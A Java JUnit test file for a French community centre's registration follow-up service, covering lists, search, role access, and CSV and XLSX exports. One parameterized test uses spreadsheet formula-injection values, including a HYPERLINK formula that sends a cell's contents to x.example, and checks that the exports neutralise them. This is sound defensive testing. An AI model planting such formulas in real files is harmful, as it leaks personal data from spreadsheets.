package fr.preau.registrations.followup;

import static fr.preau.base.FrenchSpaces.spaced;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.preau.activities.ScheduleService;
import fr.preau.activities.SessionChange;
import fr.preau.base.Role;
import fr.preau.registrations.CallReason;
import fr.preau.registrations.PartyRule;
import fr.preau.registrations.RegistrationState;
import fr.preau.registrations.RegistrationsTest;
import fr.preau.registrations.TodayService;
import fr.preau.registrations.Town;
import fr.preau.registrations.Town.Family;
import fr.preau.registrations.attendance.AttendanceMark;
import fr.preau.registrations.attendance.AttendanceService;
import fr.preau.registrations.followup.FollowUpFilter.Show;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.zip.ZipFile;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.parser.Parser;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.access.AccessDeniedException;

class FollowUpTest extends RegistrationsTest {

    @Autowired
    FollowUpService followUp;
    @Autowired
    TodayService today;
    @Autowired
    ScheduleService schedule;
    @Autowired
    AttendanceService attendance;

    private Town.Group group;
    private Family first;
    private Family second;

    @BeforeEach
    void someRequests() {
        group = town.group(centre).places(1).stands();
        first = town.family(centre).named("D’Hondt").phoneOnly("03 20 11 22 33").lives();
        second = town.family(centre).named("Élodie").unreachable().lives();
        one(first, group);
        one(second, group);
    }

    @Test
    void eachRequestIsOneLineWithItsStateAndRank() {
        var lines = page(FollowUpFilter.of(Show.ALL));

        assertThat(lines).extracting(FollowUpLine::state).containsExactly(RegistrationState.WAITING, RegistrationState.CONFIRMED);
        assertThat(lines.getFirst().rank()).isEqualTo(1);
        assertThat(page(FollowUpFilter.of(Show.WAITING))).hasSize(1);
        assertThat(page(FollowUpFilter.of(Show.CONFIRMED))).hasSize(1);
        assertThat(page(FollowUpFilter.of(Show.ENDED))).isEmpty();
    }

    @Test
    void wordsFindNamesAndTitlesWhateverTheirAccentsAndOrder() {
        assertThat(page(words("elodie amina"))).hasSize(1);
        assertThat(page(words("hondt"))).hasSize(1);
        assertThat(page(words("CUISINE"))).hasSize(2);
        assertThat(page(words("quelqu’un d’autre"))).isEmpty();
    }

    @Test
    void aWeekAndAnActivityNarrowTheList() {
        var now = clock.instant();
        var soon = new FollowUpFilter(Show.ALL, group.activity(), now, now.plus(Duration.ofDays(7)), "");
        var later = new FollowUpFilter(Show.ALL, group.activity(), now, now.plus(Duration.ofDays(21)), "");

        assertThat(page(soon)).isEmpty();
        assertThat(page(later)).hasSize(2);
    }

    @Test
    void whatWasCancelledIsFoundByItsDatesAmongWhatHasEndedAndInTheExport() {
        var hers = as(first, () -> registrations.mine()).getFirst().id();
        as(first, () -> registrations.cancel(Set.of(hers)));
        var from = clock.instant().plus(Duration.ofDays(13));

        assertThat(page(week(Show.ENDED, from))).extracting(FollowUpLine::householdId).containsExactly(first.id());
        assertThat(page(week(Show.ALL, from))).hasSize(2);
        assertThat(page(week(Show.CONFIRMED, from))).isEmpty();
        assertThat(page(week(Show.ENDED, from.plus(Duration.ofDays(7))))).isEmpty();
        assertThat(cells(csv(week(Show.ENDED, from)))).hasSize(1 + 1);
    }

    @Test
    void whoHasToBeCalledForACancelledDateIsToDoInTheWeekOfThatDate() {
        asStaff(Role.ANIMATOR, () -> schedule.cancelSessions(group.id(), group.session(), 0, SessionChange.Reach.ONE, "Travaux"));

        assertThat(page(week(Show.TO_DO, clock.instant().plus(Duration.ofDays(13))))).hasSize(2);
    }

    private FollowUpFilter week(Show show, Instant from) {
        return new FollowUpFilter(show, group.activity(), from, from.plus(Duration.ofDays(7)), "");
    }

    @Test
    void whoHasToBeCalledIsToDoToday() {
        var hers = as(first, () -> registrations.mine()).getFirst().id();
        as(first, () -> registrations.cancel(Set.of(hers)));

        assertThat(page(FollowUpFilter.of(Show.TO_DO))).singleElement().satisfies(line -> assertThat(line.toCall()).isTrue());
        var day = asStaff(Role.RECEPTION, () -> today.today());
        assertThat(day.calls()).singleElement().satisfies(call -> assertThat(call.about()).isEqualTo(CallReason.PLACE_OFFERED));
    }

    @Test
    void anExportHasALineForEachPersonAtEachSession() {
        var series = town.group(centre).series(2).stands();
        var pair = town.family(centre).named("Petit").adult("Karim").lives();
        register(pair, series, pair.persons(), PartyRule.WHO_CAN);
        var only = new FollowUpFilter(Show.ALL, series.activity(), null, null, "");

        var lines = cells(csv(only));
        assertThat(lines).hasSize(1 + 4);
        var days = column(lines, "Date");
        assertThat(days).hasSize(4);
        assertThat(Set.copyOf(days)).hasSize(2);
        assertThat(lines.stream().skip(1).map(line -> line.get(lines.getFirst().indexOf("Prénom")) + " " + line.get(lines.getFirst().indexOf("Date"))).toList())
                .containsExactlyInAnyOrder("Amina " + Collections.min(days), "Amina " + Collections.max(days), "Karim " + Collections.min(days), "Karim " + Collections.max(days));
        assertThat(excelCells(xlsx(only))).as("the same cells on the sheet").isEqualTo(lines);
    }

    @Test
    void anExportHasNoLineForACancelledDateOfASeriesThatGoesOnAndNoneOutsideThePeriod() {
        var series = town.group(centre).series(3).stands();
        one(town.family(centre).named("Petit").lives(), series);
        asStaff(Role.ANIMATOR, () -> schedule.cancelSessions(series.id(), series.session(), 0, SessionChange.Reach.ONE, "Travaux"));

        assertThat(column(cells(csv(new FollowUpFilter(Show.ALL, series.activity(), null, null, ""))), "Date")).hasSize(2);
        var begins = database.sql("SELECT starts_at FROM activity_session WHERE id = :id").param("id", series.sessions().getLast())
                .query(LocalDateTime.class).single().toInstant(ZoneOffset.UTC);
        assertThat(column(cells(csv(new FollowUpFilter(Show.ALL, series.activity(), begins, begins.plusSeconds(1), ""))), "Date")).hasSize(1);
    }

    @Test
    void whoCancelledAndCameAllTheSameInANewRegistrationIsPresentOnTheLineOfThatOne() {
        var open = town.group(centre).places(5).stands();
        var family = town.family(centre).named("Petit").lives();
        var before = one(family, open).registration();
        as(family, () -> registrations.cancel(Set.of(before)));
        one(family, open);
        asStaff(Role.ANIMATOR, () -> {
            attendance.mark(open.session(), family.person(), AttendanceMark.PRESENT);
            return true;
        });

        var lines = cells(csv(new FollowUpFilter(Show.ALL, open.activity(), null, null, "")));

        assertThat(lines.stream().skip(1).map(line -> line.get(lines.getFirst().indexOf(spaced("Où en est-on ?"))) + " " + line.get(lines.getFirst().indexOf("Présence"))))
                .containsExactlyInAnyOrder("Annulée par la famille ", "Confirmée Présence");
    }

    /** As they come into a file: by an activity's title, and by what was in the database before names had rules. */
    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://x.example/?\"&A1;\"Cliquez\")", "+33 6 12", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1"})
    void aTitleAndANameLikeAFormulaAreTextInBothFiles(String formula) {
        database.sql("UPDATE activity SET title = :formula WHERE id = :id").param("formula", formula).param("id", group.activity()).update();
        database.sql("UPDATE person SET first_name = :formula, last_name = :formula WHERE household_id = :id").param("formula", formula).param("id", first.id()).update();

        var lines = cells(csv(FollowUpFilter.of(Show.ALL)));
        assertThat(column(lines, "Activité")).as("whole, behind an apostrophe").containsExactly("'" + formula, "'" + formula);
        assertThat(column(lines, "Nom")).contains("'" + formula);
        assertThat(column(lines, "Prénom")).contains("'" + formula);
        assertThat(lines).allSatisfy(line -> assertThat(line).noneMatch(cell -> cell.startsWith("=") || cell.startsWith("+") || cell.startsWith("-")
                || cell.startsWith("@") || cell.startsWith("\t") || cell.startsWith("\r") || cell.startsWith("\n")));

        var sheet = xlsx(FollowUpFilter.of(Show.ALL));
        assertThat(sheet.select("f")).as("nothing is computed").isEmpty();
        assertThat(sheet.select("c")).isNotEmpty().allMatch(cell -> cell.attr("t").equals("inlineStr"));
        assertThat(column(excelCells(sheet), "Activité")).as("as it is").allSatisfy(title -> assertThat(title).isEqualToNormalizingNewlines(formula));
    }

    @Test
    void aPhoneKeepsItsZeroInBothFilesAndWordsTheirAccents() {
        var csv = csv(FollowUpFilter.of(Show.ALL));
        assertThat(csv).startsWith("\uFEFF\"Famille\";");
        assertThat(cells(csv)).hasSize(3);
        assertThat(column(cells(csv), "Téléphone")).contains("03 20 11 22 33");
        assertThat(column(cells(csv), "Nom")).contains("Élodie", "D’Hondt");
        assertThat(column(cells(csv), spaced("Où en est-on ?"))).contains("En attente");
        assertThat(excelCells(xlsx(FollowUpFilter.of(Show.ALL)))).isEqualTo(cells(csv));
    }

    private String csv(FollowUpFilter filter) {
        return asStaff(Role.RECEPTION, () -> {
            var out = new ByteArrayOutputStream();
            followUp.exportCsv(filter, out);
            return out.toString(StandardCharsets.UTF_8);
        });
    }

    /** Lines and cells as a spreadsheet reads them: quoted, between semicolons, a quote doubled, line breaks within quotes. */
    private static List<List<String>> cells(String csv) {
        var lines = new ArrayList<List<String>>();
        var line = new ArrayList<String>();
        var cell = Pattern.compile("\"((?:[^\"]|\"\")*)\"(;|\r\n)").matcher(csv.substring(1));
        int end = 0;
        while (cell.find()) {
            assertThat(cell.start()).as("nothing stands between cells").isEqualTo(end);
            end = cell.end();
            line.add(cell.group(1).replace("\"\"", "\""));
            if (!cell.group(2).equals(";")) {
                lines.add(List.copyOf(line));
                line.clear();
            }
        }
        assertThat(end).as("read to the end").isEqualTo(csv.length() - 1);
        return lines;
    }

    /** The sheet that is in the file. */
    private Document xlsx(FollowUpFilter filter) {
        var bytes = asStaff(Role.DIRECTOR, () -> {
            var out = new ByteArrayOutputStream();
            followUp.exportXlsx(filter, out);
            return out.toByteArray();
        });
        try {
            var file = Files.write(Files.createTempFile("preau", ".xlsx"), bytes);
            try (var zip = new ZipFile(file.toFile())) {
                var sheet = zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes();
                return Jsoup.parse(new String(sheet, StandardCharsets.UTF_8), "", Parser.xmlParser());
            } finally {
                Files.delete(file);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static List<List<String>> excelCells(Document sheet) {
        return sheet.select("row").stream().map(row -> row.select("c").stream().map(cell -> cell.select("t").getFirst().wholeText()).toList()).toList();
    }

    /** What stands below this title. */
    private static List<String> column(List<List<String>> lines, String title) {
        int at = lines.getFirst().indexOf(title);
        assertThat(at).as(title).isNotNegative();
        return lines.stream().skip(1).map(line -> line.get(at)).toList();
    }

    @Test
    void anAnimatorSeesTheListWithoutTheExportAndAResidentSeesNeither() {
        assertThat(asStaff(Role.ANIMATOR, () -> followUp.count(FollowUpFilter.of(Show.ALL)))).isEqualTo(2);
        assertThatThrownBy(() -> asStaff(Role.ANIMATOR, () -> {
            followUp.exportCsv(FollowUpFilter.of(Show.ALL), new ByteArrayOutputStream());
            return true;
        })).isInstanceOf(AccessDeniedException.class);
        assertThatThrownBy(() -> as(first, () -> followUp.count(FollowUpFilter.of(Show.ALL)))).isInstanceOf(AccessDeniedException.class);
    }

    @Test
    void anotherCentreSeesNothingOfIt() {
        centre = town.centre();

        assertThat(page(FollowUpFilter.of(Show.ALL))).isEmpty();
    }

    private List<FollowUpLine> page(FollowUpFilter filter) {
        var lines = asStaff(Role.RECEPTION, () -> followUp.page(filter, 0, 25));
        assertThat(asStaff(Role.RECEPTION, () -> followUp.count(filter))).isEqualTo(lines.size());
        return lines;
    }

    private static FollowUpFilter words(String typed) {
        return new FollowUpFilter(Show.ALL, null, null, null, typed);
    }
}
